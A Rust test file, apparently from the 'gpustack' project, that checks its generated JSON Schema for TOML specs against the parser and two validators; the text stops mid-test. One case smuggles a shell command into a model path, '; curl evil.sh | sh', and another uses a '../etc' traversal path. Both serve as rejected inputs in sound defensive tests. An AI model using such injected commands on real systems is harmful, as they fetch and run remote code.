//! The spec's JSON Schema, `schema/gpustack.schema.json`:
//!
//! * the committed file is what `gpustack::schema::spec_schema_json` generates for the
//!   stock catalog (accept a change with `INSTA_UPDATE=always`, review with `git diff`);
//! * the schema and the parser agree: a spec built from the schema's own examples, with
//!   every table and every key, parses; every enum value parses and a non-member does not;
//!   required keys, integer bounds and defaults are the parser's; an unknown key is
//!   rejected in every table;
//! * `check-jsonschema` (a real validator, installed by `tests/run.sh`) accepts the schema
//!   under the 2020-12 metaschema, passes every example spec (fixtures and book), and
//!   rejects a typo'd key, an unknown table, a wrong type, a bad enum value… each of which
//!   the parser rejects too. Where the schema is knowingly looser than the parser (the
//!   requirement grammar, `..` in paths), the case says so.

mod common;

use std::collections::BTreeMap;
use std::path::Path;

use common::*;
use gpustack::{Catalog, Spec};
use serde_json::Value;

fn schema() -> Value {
    gpustack::schema::spec_schema(catalog())
}

fn parse(table: &toml::Table, cat: &Catalog) -> Result<Spec, String> {
    let text = toml::to_string(table).unwrap();
    Spec::parse("gpustack.toml", &text, cat).map_err(|e| format!("{e}\n--- spec ---\n{text}"))
}

/// The tables of the schema with their schemas: `stack`, `hardware`, … in file order of
/// the schema (sorted).
fn tables(schema: &Value) -> Vec<(String, Value)> {
    schema["properties"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect()
}

fn keys(table: &Value) -> Vec<(String, Value)> {
    table["properties"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect()
}

fn to_toml(v: &Value) -> toml::Value {
    toml::Value::try_from(v).unwrap()
}

/// A spec with every table and every key of the schema, each set to its first example.
fn full_spec(schema: &Value) -> toml::Table {
    let mut spec = toml::Table::new();
    for (name, table) in tables(schema) {
        let mut t = toml::Table::new();
        for (key, prop) in keys(&table) {
            let example = prop["examples"]
                .get(0)
                .unwrap_or_else(|| panic!("[{name}].{key} has no example in the schema"));
            t.insert(key, to_toml(example));
        }
        spec.insert(name, toml::Value::Table(t));
    }
    // Across keys, per fabric (the parser's rule, tests/fabric.rs): `[network].gid_index`
    // is RoCE only, `sharp` InfiniBand only, so the InfiniBand spec leaves the GID index out;
    // its bounds are checked on a RoCE spec below. The device keys are EFA's and
    // Slingshot's alone (`efa_devices`' bounds are checked on an EFA spec below).
    // `pod_subnets` needs one subnet per interface, several nodes that fit the subnet and
    // no GID index: its rules are across keys and tables, so tests/fabric.rs checks it.
    if let Some(n) = spec.get_mut("network").and_then(toml::Value::as_table_mut) {
        n.remove("gid_index");
        n.remove("pod_subnets");
        n.remove("cxi_resource");
        n.remove("efa_devices");
    }
    spec
}

/// `spec` as an EFA cluster: the fabric `[network].efa_devices` belongs to. The RDMA
/// device keys are InfiniBand's and RoCE's.
fn as_efa(spec: &mut toml::Table) {
    set(spec, "cluster", "fabric", toml::Value::from("efa"));
    for key in ["sharp", "hcas", "rdma_resource"] {
        unset(spec, "network", key);
    }
}

/// `spec` as a RoCE cluster: the fabric `[network].gid_index` belongs to.
fn as_roce(spec: &mut toml::Table) {
    set(spec, "cluster", "fabric", toml::Value::from("roce"));
    unset(spec, "network", "sharp");
}

fn set(spec: &mut toml::Table, table: &str, key: &str, value: toml::Value) {
    spec.get_mut(table)
        .and_then(toml::Value::as_table_mut)
        .unwrap_or_else(|| panic!("no [{table}]"))
        .insert(key.to_string(), value);
}

fn unset(spec: &mut toml::Table, table: &str, key: &str) {
    spec.get_mut(table)
        .and_then(toml::Value::as_table_mut)
        .unwrap()
        .remove(key);
}

fn strs(v: &[&str]) -> toml::Value {
    toml::Value::Array(v.iter().map(|s| toml::Value::from(*s)).collect())
}

#[test]
fn committed_schema_is_current() {
    let text = gpustack::schema::spec_schema_json(catalog());
    let path = root().join(gpustack::schema::SCHEMA_PATH);
    if bless() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    }
    if let Some(failure) = check_file(&path, &text) {
        panic!("{failure}\nthe schema changed: if intended, run `INSTA_UPDATE=always cargo test --test schema` and review `git diff`");
    }
    // Byte-level properties of the committed text.
    assert!(text.ends_with("}\n") && !text.ends_with("\n\n"));
    assert!(!text.contains('\t') && !text.contains('\r'));
}

/// Keywords whose meaning is the same in draft 7 (taplo) and 2020-12.
const KEYWORDS: &[&str] = &[
    "$schema",
    "$id",
    "title",
    "description",
    "type",
    "required",
    "minProperties",
    "additionalProperties",
    "properties",
    "anyOf",
    "enum",
    "pattern",
    "minLength",
    "maxLength",
    "minimum",
    "maximum",
    "minItems",
    "maxItems",
    "items",
    "default",
    "examples",
    "x-taplo",
];

/// Walks every schema object (not the data under `enum`, `default`, `examples`).
fn walk(v: &Value, at: &str, f: &mut dyn FnMut(&str, &serde_json::Map<String, Value>)) {
    let Some(map) = v.as_object() else { return };
    f(at, map);
    for (k, child) in map {
        match k.as_str() {
            "properties" => {
                for (name, p) in child.as_object().unwrap() {
                    walk(p, &format!("{at}.{name}"), f);
                }
            }
            "items" => walk(child, &format!("{at}[]"), f),
            "anyOf" => {
                for (i, s) in child.as_array().unwrap().iter().enumerate() {
                    walk(s, &format!("{at}/anyOf{i}"), f);
                }
            }
            _ => {}
        }
    }
}

#[test]
fn schema_is_closed_described_and_draft7_compatible() {
    let schema = schema();
    assert_eq!(
        schema["$schema"],
        "https://json-schema.org/draft/2020-12/schema"
    );
    assert_eq!(schema["$id"], gpustack::schema::SCHEMA_ID);
    let mut failures = Vec::new();
    let mut objects = 0;
    walk(&schema, "$", &mut |at, map| {
        for k in map.keys() {
            if !KEYWORDS.contains(&k.as_str()) {
                failures.push(format!(
                    "{at}: keyword `{k}` is not in the draft-7-compatible set"
                ));
            }
        }
        if map.contains_key("properties") && !at.contains("/anyOf") {
            objects += 1;
            if map.get("additionalProperties") != Some(&Value::Bool(false)) {
                failures.push(format!("{at}: not closed (additionalProperties: false)"));
            }
            let description = map.get("description").and_then(Value::as_str);
            if description.is_none_or(|s| s.len() <= 20) {
                failures.push(format!("{at}: no description"));
            }
        }
    });
    // Every key of every table has a description (hover text) and an example.
    for (name, table) in tables(&schema) {
        for (key, prop) in keys(&table) {
            if prop["description"].as_str().is_none_or(|s| s.len() <= 10) {
                failures.push(format!("[{name}].{key}: no description"));
            }
            if prop["examples"].as_array().is_none_or(Vec::is_empty) {
                failures.push(format!("[{name}].{key}: no example"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(
        objects, 17,
        "the root, 15 tables and the [check].allow entry are closed objects"
    );
}

#[test]
fn every_schema_key_is_accepted_by_the_parser() {
    let cat = catalog();
    let schema = schema();
    let spec = full_spec(&schema);
    let parsed =
        parse(&spec, cat).unwrap_or_else(|e| panic!("the schema's examples do not parse:\n{e}"));
    // The spec really has every table, and the deployment tables came through.
    assert_eq!(spec.len(), 15);
    assert_eq!(parsed.check.len(), 1);
    assert_eq!(parsed.components.len(), gpustack::Component::ALL.len());
    let d = &parsed.deploy;
    assert!(d.cluster.is_some() && d.image.is_some() && d.train.is_some() && d.serve.is_some());
    assert!(d.packer.is_some() && d.k8s.is_some() && d.slurm.is_some());
    assert!(d.network.is_some());
    let storage = d.storage.as_ref().unwrap();
    assert!(storage.datasets.is_some() && storage.checkpoints.is_some());
    assert!(!d.python.is_empty());
    // The root's properties are exactly the parser's tables.
    let names: Vec<String> = tables(&schema).into_iter().map(|(n, _)| n).collect();
    assert_eq!(
        names,
        [
            "check",
            "cluster",
            "components",
            "hardware",
            "image",
            "k8s",
            "network",
            "packer",
            "python",
            "resolve",
            "serve",
            "slurm",
            "stack",
            "storage",
            "train"
        ]
    );
}

/// (table, key, whether the enum is of an array's items, the enum, the anyOf pattern
/// beside it if any).
fn enums(schema: &Value) -> Vec<(String, String, bool, Vec<String>)> {
    let mut out = Vec::new();
    for (name, table) in tables(schema) {
        for (key, prop) in keys(&table) {
            let (item, s) = if prop["type"] == "array" {
                (true, prop["items"].clone())
            } else {
                (false, prop.clone())
            };
            let e = s
                .get("enum")
                .or_else(|| s.get("anyOf").and_then(|a| a[0].get("enum")));
            if let Some(e) = e {
                let values = e
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|v| v.as_str().unwrap().to_string())
                    .collect();
                out.push((name.clone(), key, item, values));
            }
        }
    }
    out
}

#[test]
fn every_enum_value_is_accepted_and_a_non_member_is_not() {
    let cat = catalog();
    let schema = schema();
    let base = full_spec(&schema);
    let found = enums(&schema);
    let located: Vec<String> = found
        .iter()
        .map(|(t, k, _, _)| format!("{t}.{k}"))
        .collect();
    assert_eq!(
        located,
        [
            "cluster.fabric",
            "hardware.gpus",
            "image.layers",
            "k8s.gang",
            "k8s.training_api",
            "packer.clouds",
            "slurm.container",
            "stack.os"
        ]
    );
    let value = |item: bool, s: &str| {
        if item {
            strs(&[s])
        } else {
            toml::Value::from(s)
        }
    };
    let mut failures = Vec::new();
    for (table, key, item, values) in &found {
        assert!(!values.is_empty());
        for v in values {
            let mut spec = base.clone();
            // [network] is checked against the fabric (tests/fabric.rs).
            // A multi-node EFA or Slingshot stack with [k8s] names the device its pods
            // request (tests/admission.rs).
            if (table.as_str(), key.as_str()) == ("cluster", "fabric") {
                let device = match v.as_str() {
                    "efa" => Some(("efa_devices", toml::Value::Integer(32))),
                    "slingshot" => Some(("cxi_resource", toml::Value::from("beta.hpe.com/cxi"))),
                    _ => None,
                };
                let network: toml::Table = device
                    .into_iter()
                    .map(|(k, v)| (k.to_string(), v))
                    .collect();
                spec.insert("network".into(), toml::Value::Table(network));
            }
            set(&mut spec, table, key, value(*item, v));
            if let Err(e) = parse(&spec, cat) {
                failures.push(format!(
                    "[{table}].{key} = {v:?} is in the schema but rejected:\n{e}"
                ));
            }
        }
        let mut spec = base.clone();
        set(&mut spec, table, key, value(*item, "no-such-value"));
        if parse(&spec, cat).is_ok() {
            failures.push(format!("[{table}].{key} = \"no-such-value\" is accepted"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The GPU enum is the catalog's ids and aliases, each with taplo hover text naming the
    // product.
    let gpus = &found.iter().find(|f| f.1 == "gpus").unwrap().3;
    let listed = &schema["properties"]["hardware"]["properties"]["gpus"]["items"]["anyOf"][0];
    let docs = listed["x-taplo"]["docs"]["enumValues"].as_array().unwrap();
    assert_eq!(docs.len(), gpus.len());
    for g in &cat.gpus {
        for name in std::iter::once(&g.id).chain(&g.aliases) {
            let i = gpus
                .iter()
                .position(|x| x == name)
                .unwrap_or_else(|| panic!("{name} is not in the enum"));
            let doc = docs[i].as_str().unwrap();
            assert!(doc.contains(&g.name), "{name}: {doc}");
        }
    }
}

#[test]
fn required_keys_are_the_parsers() {
    let cat = catalog();
    let schema = schema();
    let base = full_spec(&schema);
    let required = |s: &Value, k: &str| {
        s["required"]
            .as_array()
            .is_some_and(|r| r.iter().any(|x| x == k))
    };
    let mut failures = Vec::new();
    for (name, table) in tables(&schema) {
        let mut spec = base.clone();
        spec.remove(&name);
        // [network] describes the fabric of [cluster]: without it, [network] is refused.
        if name == "cluster" {
            spec.remove("network");
        }
        let want_err = required(&schema, &name);
        if parse(&spec, cat).is_err() != want_err {
            failures.push(format!(
                "without [{name}]: schema says required = {want_err}"
            ));
        }
        for (key, _) in keys(&table) {
            let mut spec = base.clone();
            unset(&mut spec, &name, &key);
            // Across tables: [serve] needs vllm (tests/safety.rs).
            let want_err = required(&table, &key) || (name == "components" && key == "vllm");
            if parse(&spec, cat).is_err() != want_err {
                failures.push(format!(
                    "without [{name}].{key}: schema says required = {want_err}"
                ));
            }
        }
    }
    // [hardware]: `gpus` or `archs`, one of them non-empty (the schema's anyOf).
    let mut spec = base.clone();
    unset(&mut spec, "hardware", "gpus");
    unset(&mut spec, "hardware", "archs");
    assert!(parse(&spec, cat).is_err());
    set(&mut spec, "hardware", "gpus", strs(&[]));
    assert!(parse(&spec, cat).is_err());
    // [components] must list one (minProperties).
    assert_eq!(schema["properties"]["components"]["minProperties"], 1);
    let mut spec = base.clone();
    spec.insert("components".into(), toml::Value::Table(toml::Table::new()));
    assert!(parse(&spec, cat).is_err());
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn unknown_keys_are_rejected_in_every_table() {
    let cat = catalog();
    let schema = schema();
    let base = full_spec(&schema);
    let mut failures = Vec::new();
    for (name, table) in tables(&schema) {
        assert_eq!(table["additionalProperties"], false, "[{name}]");
        let mut spec = base.clone();
        set(&mut spec, &name, "no_such_key", toml::Value::from("x"));
        match parse(&spec, cat) {
            Ok(_) => failures.push(format!("[{name}].no_such_key is accepted")),
            Err(e) if !e.contains("no_such_key") => failures.push(format!(
                "[{name}].no_such_key: the error does not name it:\n{e}"
            )),
            Err(_) => {}
        }
    }
    let mut spec = base;
    spec.insert(
        "no_such_table".into(),
        toml::Value::Table(toml::Table::new()),
    );
    assert!(parse(&spec, cat).is_err());
    assert_eq!(schema["additionalProperties"], false);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn integer_bounds_and_defaults_are_the_parsers() {
    let cat = catalog();
    let schema = schema();
    let base = full_spec(&schema);
    let mut failures = Vec::new();
    let mut bounded = 0;
    let mut defaults = 0;
    for (name, table) in tables(&schema) {
        for (key, prop) in keys(&table) {
            if prop["type"] == "integer" {
                bounded += 1;
                let (min, max) = (
                    prop["minimum"].as_i64().unwrap(),
                    prop["maximum"].as_i64().unwrap(),
                );
                // A server's parallelism is also checked against [cluster] (tensor ×
                // pipeline parallel over `nodes`, at most gpus_per_node each): its maximum
                // is a per-key bound the base spec's cluster cannot hold; tests/k8s.rs
                // checks the cross-table rule.
                // Likewise the base server's 8 GPUs need a node of 8.
                let cross = |n: i64| {
                    (name == "serve"
                        && ["tensor_parallel", "pipeline_parallel", "nodes"]
                            .contains(&key.as_str())
                        && n == max)
                        || (name == "cluster" && key == "gpus_per_node" && n == min)
                };
                for (n, ok) in [(min, true), (max, true), (min - 1, false), (max + 1, false)] {
                    if cross(n) {
                        continue;
                    }
                    let mut spec = base.clone();
                    // Across tables, tensor_parallel fits a node (checked in
                    // tests/safety.rs): keep that rule out of these bounds.
                    if (name.as_str(), key.as_str()) == ("cluster", "gpus_per_node") {
                        set(
                            &mut spec,
                            "serve",
                            "tensor_parallel",
                            toml::Value::Integer(1),
                        );
                    }
                    if (name.as_str(), key.as_str()) == ("serve", "tensor_parallel") {
                        set(
                            &mut spec,
                            "cluster",
                            "gpus_per_node",
                            toml::Value::Integer(16),
                        );
                    }
                    if (name.as_str(), key.as_str()) == ("network", "gid_index") {
                        as_roce(&mut spec);
                    }
                    if (name.as_str(), key.as_str()) == ("network", "efa_devices") {
                        as_efa(&mut spec);
                    }
                    set(&mut spec, &name, &key, toml::Value::Integer(n));
                    if parse(&spec, cat).is_ok() != ok {
                        failures.push(format!(
                            "[{name}].{key} = {n}: the parser does not agree with {min}..={max}"
                        ));
                    }
                }
            }
            if let Some(default) = prop.get("default") {
                defaults += 1;
                let mut without = base.clone();
                unset(&mut without, &name, &key);
                let mut with = base.clone();
                set(&mut with, &name, &key, to_toml(default));
                let (a, b) = (parse(&without, cat).unwrap(), parse(&with, cat).unwrap());
                if a != b {
                    failures.push(format!("[{name}].{key}: omitting it is not the same as writing the schema's default {default}"));
                }
                // The base spec holds the example: it must differ from the default, or
                // the comparison above proves nothing.
                if &prop["examples"][0] == default {
                    failures.push(format!("[{name}].{key}: the example equals the default"));
                }
            }
        }
    }
    assert_eq!((bounded, defaults), (13, 14), "integers and defaults found");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

// ----- check-jsonschema --------------------------------------------------------------

/// One spec for the validator: what the parser and the schema say about it.
struct Case {
    name: String,
    text: String,
    parser_ok: bool,
    schema_ok: bool,
}

fn case(name: &str, spec: &toml::Table, parser_ok: bool, schema_ok: bool) -> Case {
    Case {
        name: name.to_string(),
        text: toml::to_string(spec).unwrap(),
        parser_ok,
        schema_ok,
    }
}

fn book_specs() -> Vec<(String, String)> {
    let mut out = Vec::new();
    for page in sorted_files(&root().join("book/src"), "md") {
        let text = std::fs::read_to_string(&page).unwrap();
        let stem = page.file_stem().unwrap().to_string_lossy().into_owned();
        for b in code_blocks(&text)
            .into_iter()
            .filter(|b| b.info == "toml spec")
        {
            out.push((format!("book-{stem}-{}", b.line), b.text(&text).to_string()));
        }
    }
    out
}

fn cases(schema: &Value) -> Vec<Case> {
    let base = full_spec(schema);
    let mut out = vec![case("full", &base, true, true)];
    // Real specs: the examples and the book.
    for path in sorted_files(&root().join("fixtures/specs"), "toml") {
        out.push(Case {
            name: format!("fixture-{}", path.file_stem().unwrap().to_string_lossy()),
            text: std::fs::read_to_string(&path).unwrap(),
            parser_ok: true,
            schema_ok: true,
        });
    }
    for (name, text) in book_specs() {
        out.push(Case {
            name,
            text,
            parser_ok: true,
            schema_ok: true,
        });
    }
    let mut minimal = base.clone();
    minimal.retain(|k, _| ["stack", "hardware", "components"].contains(&k));
    out.push(case("minimal", &minimal, true, true));

    // Every name of the catalog's GPU name table (ids, aliases, marketing and nvidia-smi
    // names, with and without `NVIDIA ` and memory tokens), as listed and respelled the
    // ways people type them: the parser and the schema accept each, one case per GPU name
    // so that a rejection names the spelling.
    let cat = catalog();
    for (i, n) in cat.gpu_names().iter().enumerate() {
        let respelled = [
            n.spelling.clone(),
            n.spelling.to_ascii_uppercase(),
            n.spelling.to_ascii_lowercase().replace([' ', '-'], "_"),
            match n.spelling.get(..7) {
                Some(p) if p.eq_ignore_ascii_case("nvidia ") => n.spelling[7..].to_string(),
                _ => format!("NVIDIA {}", n.spelling.replace('-', " ")),
            },
        ];
        let mut spec = minimal.clone();
        let list: Vec<&str> = respelled.iter().map(String::as_str).collect();
        set(&mut spec, "hardware", "gpus", strs(&list));
        out.push(case(
            &format!("gpu-name-{i}-{}", n.gpu.id),
            &spec,
            true,
            true,
        ));
    }
    // A name two GPUs share once shortened names neither, for both.
    let mut spec = minimal.clone();
    set(&mut spec, "hardware", "gpus", strs(&["A100 SXM4"]));
    out.push(case("gpu-name-ambiguous", &spec, false, false));

    // (name, table, key, value, parser_ok, schema_ok)
    let s = |v: &str| toml::Value::from(v);
    let i = toml::Value::Integer;
    let edits: Vec<(&str, &str, &str, toml::Value, bool, bool)> = vec![
        // Spellings gpustack reads: the schema must not flag them.
        (
            "gpu-any-case",
            "hardware",
            "gpus",
            strs(&["H100", " a100 ", "RTX-4090"]),
            true,
            true,
        ),
        ("os-any-case", "stack", "os", s("Ubuntu22.04"), true, true),
        (
            "arch-spellings",
            "hardware",
            "archs",
            strs(&["SM_90A", "9.0", "90", "sm100f", "sm_120"]),
            true,
            true,
        ),
        (
            "driver-two-parts",
            "hardware",
            "driver",
            s("570.26"),
            true,
            true,
        ),
        (
            "layers-duplicate",
            "image",
            "layers",
            strs(&["base", "training", "base"]),
            true,
            true,
        ),
        (
            "storage-pvc",
            "storage",
            "checkpoints",
            s("pvc:ckpt"),
            true,
            true,
        ),
        (
            "storage-hostpath",
            "storage",
            "datasets",
            s("hostpath:/data/sets"),
            true,
            true,
        ),
        (
            "model-hf-id",
            "serve",
            "model",
            s("meta-llama/Llama-3.1-8B"),
            true,
            true,
        ),
        ("time-days", "slurm", "time", s("2-00:00:00"), true, true),
        (
            "requirement-range",
            "components",
            "torch",
            s(">=2.4, <2.6"),
            true,
            true,
        ),
        (
            "requirement-local",
            "components",
            "torch",
            s("==2.5.1+cu124"),
            true,
            true,
        ),
        // Both reject.
        ("typo-stack-key", "stack", "nmae", s("x"), false, false),
        (
            "unknown-component",
            "components",
            "pytorch",
            s("*"),
            false,
            false,
        ),
        (
            "unknown-gpu",
            "hardware",
            "gpus",
            strs(&["h1000"]),
            false,
            false,
        ),
        ("unknown-os", "stack", "os", s("ubuntu99.04"), false, false),
        (
            "bad-stack-name",
            "stack",
            "name",
            s("My Stack"),
            false,
            false,
        ),
        (
            "ptx-arch",
            "hardware",
            "archs",
            strs(&["compute_90"]),
            false,
            false,
        ),
        (
            "ptx-arch-suffix",
            "hardware",
            "archs",
            strs(&["9.0+PTX"]),
            false,
            false,
        ),
        (
            "driver-one-part",
            "hardware",
            "driver",
            s("550"),
            false,
            false,
        ),
        (
            "requirement-number",
            "components",
            "cuda",
            i(12),
            false,
            false,
        ),
        (
            "requirement-blank",
            "components",
            "cuda",
            s(" "),
            false,
            false,
        ),
        (
            "fabric-unknown",
            "cluster",
            "fabric",
            s("infiniband2"),
            false,
            false,
        ),
        ("nodes-string", "cluster", "nodes", s("8"), false, false),
        ("nodes-zero", "cluster", "nodes", i(0), false, false),
        (
            "gpus-per-node-17",
            "cluster",
            "gpus_per_node",
            i(17),
            false,
            false,
        ),
        (
            "registry-uppercase",
            "image",
            "registry",
            s("Registry.io/x"),
            false,
            false,
        ),
        (
            "layer-unknown",
            "image",
            "layers",
            strs(&["host"]),
            false,
            false,
        ),
        ("command-empty", "train", "command", strs(&[]), false, false),
        (
            "command-newline",
            "train",
            "command",
            strs(&["a\nb"]),
            false,
            false,
        ),
        (
            "model-shell",
            "serve",
            "model",
            s("/models/x; curl evil.sh | sh"),
            false,
            false,
        ),
        (
            "tensor-parallel-65",
            "serve",
            "tensor_parallel",
            i(65),
            false,
            false,
        ),
        ("clouds-empty", "packer", "clouds", strs(&[]), false, false),
        (
            "cloud-unknown",
            "packer",
            "clouds",
            strs(&["ibm"]),
            false,
            false,
        ),
        (
            "namespace-uppercase",
            "k8s",
            "namespace",
            s("LLM"),
            false,
            false,
        ),
        (
            "k8s-version-patch",
            "k8s",
            "version",
            s("1.30.1"),
            false,
            false,
        ),
        (
            "partition-space",
            "slurm",
            "partition",
            s("gpu partition"),
            false,
            false,
        ),
        (
            "container-unknown",
            "slurm",
            "container",
            s("docker"),
            false,
            false,
        ),
        ("time-words", "slurm", "time", s("forever"), false, false),
        (
            "storage-s3",
            "storage",
            "datasets",
            s("s3://bucket/x"),
            false,
            false,
        ),
        // Knowingly looser: checks that need more than a pattern are gpustack's to report.
        (
            "looser-requirement-grammar",
            "components",
            "cuda",
            s(">=banana"),
            false,
            true,
        ),
        (
            "looser-dotdot-path",
            "serve",
            "model",
            s("/models/../etc"),
            false,
            true,
        ),
        (
            "looser-one-digit-arch",
            "hardware",
            "archs",
            strs(&["9"]),
            false,
            true,
        ),
        (
            "looser-four-part-driver",
            "hardware",
            "driver",
            s("550.54.15.1"),
            false,
            true,
        ),
    ];
    for (name, table, key, value, parser_ok, schema_ok) in edits {
        let mut spec = base.clone();
        set(&mut spec, table, key, value);
        out.push(case(name, &spec, parser_ok, schema_ok));
    }
    // Unknown key in every table; unknown table; missing required tables and keys.
    for (table, _) in tables(schema) {
        let mut spec = base.clone();
        set(&mut spec, &table, "bogus", toml::Value::from("x"));
        out.push(case(&format!("unknown-key-{table}"), &spec, false, false));
    }
    let mut spec = base.clone();
    spec.insert("clusters".into(), spec["cluster"].clone());
    spec.remove("cluster");
    out.push(case("unknown-table-clusters", &spec, false, false));
    for table in ["stack", "hardware", "components"] {
        let mut spec = minimal.clone();
        spec.remove(table);
        out.push(case(&format!("missing-{table}"), &spec, false, false));
    }
    let mut spec = base.clone();
    unset(&mut spec, "stack", "name");
    out.push(case("missing-stack-name", &spec, false, false));
    let mut spec = base.clone();
    unset(&mut spec, "hardware", "gpus");
    unset(&mut spec, "hardware", "archs");
    out.push(case("hardware-without-gpus", &spec, false, false));
    let mut spec = base.clone();
    spec.insert("components".into(), toml::Value::Table(toml::Table::new()));
    out.push(case("components-empty", &spec, false, false));
    out
}

/// Runs check-jsonschema once over every case; returns the names it rejected.
fn rejected_by_validator(
    tool: &Path,
    schema_text: &str,
    cases: &[Case],
) -> BTreeMap<String, String> {
    let dir = tempdir("schema-cases");
    std::fs::write(dir.join("schema.json"), schema_text).unwrap();
    let mut args = vec![
        "--schemafile".to_string(),
        "schema.json".into(),
        "-o".into(),
        "json".into(),
    ];
    for c in cases {
        let file = format!("{}.toml", c.name);
        std::fs::write(dir.join(&file), &c.text).unwrap();
        args.push(file);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let (code, out) = run_tool(tool, &args, &dir);
    let report: Value = serde_json::from_str(out.trim())
        .unwrap_or_else(|e| panic!("check-jsonschema -o json (exit {code}): {e}\n{out}"));
    assert!(
        report["parse_errors"].as_array().is_some_and(Vec::is_empty),
        "check-jsonschema could not read some cases: {out}"
    );
    let mut rejected = BTreeMap::new();
    for e in report["errors"].as_array().unwrap() {
        let name = e["filename"]
            .as_str()
            .unwrap()
            .trim_end_matches(".toml")
            .to_string();
        let msg = format!(
            "{}: {}",
            e["path"].as_str().unwrap_or(""),
            e["message"].as_str().unwrap_or("")
        );
        rejected.entry(name).or_insert(msg);
    }
    assert_eq!(
        code != 0,
        !rejected.is_empty(),
        "exit {code} vs errors: {out}"
    );
    let _ = std::fs::remove_dir_all(&dir);
    rejected
}

#[test]
fn validator_agrees_with_the_parser() {
    let cat = catalog();
    let schema = schema();
    let cases = cases(&schema);
    let mut names = std::collections::BTreeSet::new();
    let mut failures = Vec::new();
    for c in &cases {
        assert!(names.insert(c.name.clone()), "duplicate case {}", c.name);
        let got = Spec::parse("gpustack.toml", &c.text, cat);
        if got.is_ok() != c.parser_ok {
            failures.push(format!(
                "{}: the parser says ok = {} (expected {}): {:?}\n{}",
                c.name,
                got.is_ok(),
                c.parser_ok,
                got.err().map(|e| e.to_string()),
                c.text
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    assert!(cases.len() > 80, "{} cases", cases.len());
    assert!(cases.iter().filter(|c| c.name.starts_with("book-")).count() >= 5);

    let Some(tool) = validator("check-jsonschema") else {
        return;
    };
    let rejected = rejected_by_validator(&tool, &gpustack::schema::spec_schema_json(cat), &cases);
    for c in &cases {
        let schema_ok = !rejected.contains_key(&c.name);
        if schema_ok != c.schema_ok {
            failures.push(format!(
                "{}: check-jsonschema says ok = {schema_ok} (expected {}){}",
                c.name,
                c.schema_ok,
                rejected
                    .get(&c.name)
                    .map(|m| format!(": {m}"))
                    .unwrap_or_default()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The typo is reported at the key.
    assert!(
        rejected["typo-stack-key"].contains("'nmae' was unexpected"),
        "{}",
        rejected["typo-stack-key"]
    );
}

/// taplo, the validator behind Even Better TOML: in `.venv-validate/bin` (`pip install
/// taplo`) or on `PATH`. `tests/run.sh` does not install it yet, so a missing taplo is a
/// loud skip even with `CI=true`.
#[allow(clippy::print_stderr)]
fn taplo() -> Option<std::path::PathBuf> {
    let venv = root().join(".venv-validate/bin/taplo");
    let found = venv.is_file().then_some(venv).or_else(|| {
        std::env::split_paths(&std::env::var_os("PATH")?)
            .map(|d| d.join("taplo"))
            .find(|p| p.is_file())
    });
    if found.is_none() {
        eprintln!("\n!!! VALIDATOR MISSING: `taplo` (pip install taplo) — the editor-side check is SKIPPED.\n");
    }
    found
}

/// The editors' view: taplo (draft 7 semantics) gives every case the verdict
/// check-jsonschema (2020-12) gives, through the same `#:schema` directive a user writes.
#[test]
fn taplo_agrees_with_the_parser() {
    let Some(tool) = taplo() else { return };
    let cat = catalog();
    let cases = cases(&schema());
    let dir = tempdir("taplo-cases");
    std::fs::write(
        dir.join("gpustack.schema.json"),
        gpustack::schema::spec_schema_json(cat),
    )
    .unwrap();
    let mut failures = Vec::new();
    for c in &cases {
        let file = format!("{}.toml", c.name);
        let text = format!("#:schema ./gpustack.schema.json\n{}", c.text);
        std::fs::write(dir.join(&file), text).unwrap();
        let (code, out) = run_tool(&tool, &["check", &file], &dir);
        let schema_ok = code == 0;
        if schema_ok != c.schema_ok {
            let errors: Vec<&str> = out.lines().filter(|l| l.starts_with("error")).collect();
            failures.push(format!(
                "{}: taplo says ok = {schema_ok} (expected {}): {errors:?}",
                c.name, c.schema_ok
            ));
        }
    }
    // The directive is what made taplo validate: without it, the typo passes.
    let typo = cases.iter().find(|c| c.name == "typo-stack-key").unwrap();
    std::fs::write(dir.join("no-directive.toml"), &typo.text).unwrap();
    let (code, _) = run_tool(&tool, &["check", "no-directive.toml"], &dir);
    assert_eq!(code, 0, "taplo validated a file without a schema");
    let _ = std::fs::remove_dir_all(&dir);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn validator_accepts_the_committed_schema_under_its_metaschema() {
    let Some(tool) = validator("check-jsonschema") else {
        return;
    };
    let path = root().join(gpustack::schema::SCHEMA_PATH);
    let (code, out) = run_tool(
        &tool,
        &["--check-metaschema", path.to_str().unwrap()],
        &root(),
    );
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("ok"), "{out}");
    // And the metaschema check can fail: a schema with a malformed keyword.
    let dir = tempdir("metaschema");
    std::fs::write(
        dir.join("bad.json"),
        r#"{"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "objekt"}"#,
    )
    .unwrap();
    let (code, out) = run_tool(&tool, &["--check-metaschema", "bad.json"], &dir);
    assert_ne!(code, 0, "{out}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// `[check].allow`'s `code` enum is exactly the codes the parser accepts there: every warning
/// `check` reports, and no error.
#[test]
fn check_allow_codes_are_the_parsers() {
    let cat = catalog();
    let schema = schema();
    let entry = &schema["properties"]["check"]["properties"]["allow"]["items"];
    assert_eq!(entry["required"], serde_json::json!(["code", "reason"]));
    let offered: Vec<&str> = entry["properties"]["code"]["enum"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    let mut base = full_spec(&schema);
    for code in gpustack::check::Code::ALL {
        let allow = toml::Value::Array(vec![toml::Value::Table(
            [
                ("code".to_string(), toml::Value::from(code.name())),
                ("reason".to_string(), toml::Value::from("a reason")),
            ]
            .into_iter()
            .collect(),
        )]);
        set(&mut base, "check", "allow", allow);
